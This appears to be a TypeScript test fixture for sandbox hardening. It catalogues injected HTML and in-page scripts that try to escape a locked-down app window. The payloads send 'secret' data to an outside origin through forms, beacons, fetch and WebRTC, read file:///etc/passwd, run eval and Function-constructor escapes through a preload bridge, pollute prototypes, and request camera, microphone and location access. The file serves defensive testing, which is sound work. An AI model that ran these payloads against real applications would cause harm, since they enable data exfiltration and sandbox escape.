/**
 * What a page of the window that was taken over would try. Nothing of it may reach an address outside, open a window, leave
 * the page, run code that was not shipped, or be granted anything.
 */

/** HTML that a hostile script inserts; its links are clicked and its forms sent. `to` is an origin outside. */
export const markup: Record<string, (to: string) => string> = {
  'an image': (to) => `<img src="${to}/image">`,
  'an image of several sizes': (to) => `<img srcset="${to}/set 1x">`,
  'an SVG image': (to) => `<svg><image href="${to}/svg" /><use href="${to}/use#a" /></svg>`,
  'a video': (to) => `<video src="${to}/video" autoplay poster="${to}/poster"></video>`,
  'a sound': (to) => `<audio src="${to}/audio" autoplay></audio>`,
  'a style sheet': (to) => `<link rel="stylesheet" href="${to}/style">`,
  'an imported style sheet': (to) => `<style>@import url("${to}/import");</style>`,
  'a background': (to) => `<div style="height:9px;background:url(${to}/background)"></div>`,
  'a font': (to) =>
    `<style>@font-face{font-family:out;src:url("${to}/font")}</style><p style="font-family:out">x</p>`,
  'an icon': (to) => `<link rel="icon" href="${to}/icon">`,
  'a manifest': (to) => `<link rel="manifest" href="${to}/manifest">`,
  'a prefetch': (to) => `<link rel="prefetch" href="${to}/prefetch">`,
  'a preload': (to) => `<link rel="preload" as="script" href="${to}/preload">`,
  'a module preload': (to) => `<link rel="modulepreload" href="${to}/module">`,
  'a connection beforehand': (to) =>
    `<link rel="preconnect" href="${to}"><link rel="dns-prefetch" href="${to}">`,
  'a page beforehand': (to) => `<link rel="prerender" href="${to}/prerender">`,
  'a frame': (to) => `<iframe src="${to}/frame"></iframe>`,
  'a frame with content': (to) =>
    `<iframe srcdoc="<img src='${to}/srcdoc'><script src='${to}/script'></script>"></iframe>`,
  'a frame of data': (to) => `<iframe src="data:text/html,<img src='${to}/data'>"></iframe>`,
  'a frame of a file': () => '<iframe src="file:///etc/passwd" onload="window.gotOut = true"></iframe>',
  'a frame of the same page': () => '<iframe src="index.html" name="own"></iframe>',
  'an object': (to) => `<object data="${to}/object"></object>`,
  'an embedded page': (to) => `<embed src="${to}/embed">`,
  'a webview': (to) => `<webview src="${to}/webview" nodeintegration></webview>`,
  'another base address': (to) => `<base href="${to}/"><img src="based">`,
  'a refresh': (to) => `<meta http-equiv="refresh" content="0;url=${to}/refresh">`,
  'a link': (to) => `<a href="${to}/link">x</a>`,
  'a link in a new window': (to) => `<a href="${to}/blank" target="_blank">x</a>`,
  'a link with an opener': (to) => `<a href="${to}/opener" target="_blank" rel="opener">x</a>`,
  'a link that reports clicks': (to) => `<a href="#" ping="${to}/ping">x</a>`,
  'a download': (to) => `<a href="${to}/download" download="x">x</a>`,
  'a link to a file': () => '<a href="file:///etc/passwd">x</a>',
  'a link that is a script': () => '<a href="javascript:void(window.gotOut = true)">x</a>',
  'a form': (to) => `<form action="${to}/form" method="post"><input name="text" value="secret"></form>`,
  'a form in a new window': (to) =>
    `<form action="${to}/form" target="_blank"><input name="text" value="secret"></form>`,
  'a handler': () => '<img src="missing.png" onerror="window.gotOut = true">',
}

/** Runs in the page. */
export function insert(html: string): void {
  const holder = document.createElement('div')
  holder.innerHTML = html
  document.body.append(holder)
  for (const link of holder.querySelectorAll('a')) link.click()
  for (const form of holder.querySelectorAll('form')) form.submit()
}

interface Outside {
  origin: string
  host: string
}

/** Scripts that run in the page, one at a time. One that returns true has got out; most are refused with an error. */
export const scripts: Record<string, (outside: Outside) => unknown> = {
  fetch: ({ origin }) => fetch(`${origin}/fetch`).then(() => true),
  'a fetch without an answer': ({ origin }) =>
    fetch(`${origin}/no-cors`, { mode: 'no-cors' }).then(() => true),
  'a fetch of a file': () => fetch('file:///etc/passwd').then(({ ok }) => ok),
  XMLHttpRequest: ({ origin }) => {
    const request = new XMLHttpRequest()
    request.open('GET', `${origin}/xhr`, false)
    request.send()
    return true
  },
  WebSocket: ({ host }) => void new WebSocket(`ws://${host}/socket`),
  EventSource: ({ origin }) => void new EventSource(`${origin}/events`),
  'a beacon': ({ origin }) => void navigator.sendBeacon(`${origin}/beacon`, 'secret'),
  WebTransport: ({ host }) => new WebTransport(`https://${host}/transport`).ready.then(() => true),
  'a STUN server': async ({ host }) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] })
    connection.createDataChannel('out')
    await connection.setLocalDescription()
    await new Promise((resolve) => setTimeout(resolve, 500))
  },
  'a TURN server': async ({ host }) => {
    const [username, credential] = ['secret', 'secret']
    const urls = [`turn:${host}?transport=tcp`, `turn:${host}?transport=udp`]
    const connection = new RTCPeerConnection({ iceServers: [{ urls, username, credential }] })
    connection.createDataChannel('out')
    await connection.setLocalDescription()
    await new Promise((resolve) => setTimeout(resolve, 500))
  },
  'a worker': ({ origin }) => void new Worker(`${origin}/worker`),
  'a worker of inline code': () =>
    new Promise((resolve, reject) => {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
      worker.onmessage = () => resolve(true)
      worker.onerror = reject
    }),
  'a shared worker': () =>
    new Promise((resolve, reject) => {
      const worker = new SharedWorker('data:text/javascript,onconnect=({ports})=>ports[0].postMessage(1)')
      worker.port.onmessage = () => resolve(true)
      worker.onerror = reject
    }),
  'a service worker': ({ origin }) => navigator.serviceWorker.register(`${origin}/service`).then(() => true),
  'a service worker of inline code': () =>
    navigator.serviceWorker.register('data:text/javascript,').then(() => true),
  'a foreign module': ({ origin }) => import(`${origin}/import`).then(() => true),
  'a module of inline code': () => {
    const code = 'data:text/javascript,export default 1'
    return import(code).then(() => true)
  },
  'a foreign script': ({ origin }) => {
    const script = document.createElement('script')
    script.src = `${origin}/script`
    document.head.append(script)
  },
  'an inline script': () => {
    const script = document.createElement('script')
    script.textContent = 'window.gotOut = true'
    document.head.append(script)
  },
  'rules of what to load beforehand': ({ origin }) => {
    const script = document.createElement('script')
    script.type = 'speculationrules'
    script.textContent = JSON.stringify({ prefetch: [{ urls: [`${origin}/rules`], eagerness: 'immediate' }] })
    document.head.append(script)
  },
  // The developer tools, by which these scripts run, allow such code until their first task ends.
  eval: async () => {
    await new Promise((resolve) => setTimeout(resolve))
    return Reflect.get(window, 'eval')('true')
  },
  'a function of a text': async () => {
    await new Promise((resolve) => setTimeout(resolve))
    return Reflect.construct(Function, ['return true'])()
  },
  'a timer of a text': () => void Reflect.get(window, 'setTimeout')('window.gotOut = true'),
  WebAssembly: () => WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)).then(() => true),
  'another address': ({ origin }) => location.assign(`${origin}/assign`),
  'another address in place of this one': ({ origin }) => location.replace(`${origin}/replace`),
  'the address of a file': () => location.assign('file:///etc/passwd'),
  'an address of data': () => location.assign('data:text/html,out'),
  'the developer tools': () => location.assign('devtools://devtools/bundled/inspector.html'),
  'the settings of the browser': () => location.assign('chrome://settings'),
  'a pushed address': ({ origin }) => history.pushState(null, '', `${origin}/push`),
  'a window': ({ origin }) => window.open(`${origin}/open`) !== null,
  'a window with the developer tools': () =>
    window.open('devtools://devtools/bundled/inspector.html') !== null,
  'a blank window': () => window.open('about:blank') !== null,
  'a request of a blank frame': ({ origin }) => {
    const inner = document.body.appendChild(document.createElement('iframe')).contentWindow
    return inner?.fetch(`${origin}/inner`).then(() => true)
  },
  'an image of a blank frame': ({ origin }) => {
    const inner = document.body.appendChild(document.createElement('iframe')).contentDocument
    if (inner) inner.body.innerHTML = `<img src="${origin}/inner-image">`
  },
  'code in a blank frame': async () => {
    await new Promise((resolve) => setTimeout(resolve))
    const inner = document.body.appendChild(document.createElement('iframe')).contentWindow
    return inner && Reflect.get(inner, 'eval')('true')
  },
  'the bridge in a frame': () => {
    const blank = document.body.appendChild(document.createElement('iframe')).contentWindow
    const own = document.querySelector<HTMLIFrameElement>('iframe[name=own]')?.contentWindow
    return [blank, own].some((inner) => inner && Reflect.has(inner, 'stet'))
  },
  'names of Node and Electron': () => {
    const names = ['require', 'process', 'module', 'exports', 'Buffer', 'global', '__dirname']
    return [...names, 'ipcRenderer', 'electron'].some((name) => name in window)
  },
  'another bridge': () => {
    const bridge = Reflect.get(window, 'stet')
    return Reflect.set(bridge, 'choose', () => true) || Reflect.set(bridge, 'more', 1)
  },
  "the bridge's constructors": async () => {
    await new Promise((resolve) => setTimeout(resolve))
    return Reflect.get(window, 'stet').choose.constructor('return true')()
  },
  'a polluted prototype': async () => {
    const { choose } = Reflect.get(window, 'stet')
    Object.defineProperty(Object.prototype, 'what', { value: 'file', configurable: true })
    try {
      return await choose(JSON.parse('{"__proto__":{"polluted":true}}')).then(() => true)
    } finally {
      Reflect.deleteProperty(Object.prototype, 'what')
    }
  },
  notifications: () => Notification.requestPermission().then((answer) => answer === 'granted'),
  'the location': () =>
    new Promise((resolve, reject) =>
      navigator.geolocation.getCurrentPosition(() => resolve(true), reject, { timeout: 1000 }),
    ),
  'the camera': () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => true),
  'the microphone': () => navigator.mediaDevices.getUserMedia({ audio: true }).then(() => true),
  'the screen': () => navigator.mediaDevices.getDisplayMedia().then(() => true),
  'the clipboard': () => navigator.clipboard.readText().then(() => true),
  'musical instruments': () => navigator.requestMIDIAccess().then(() => true),
}
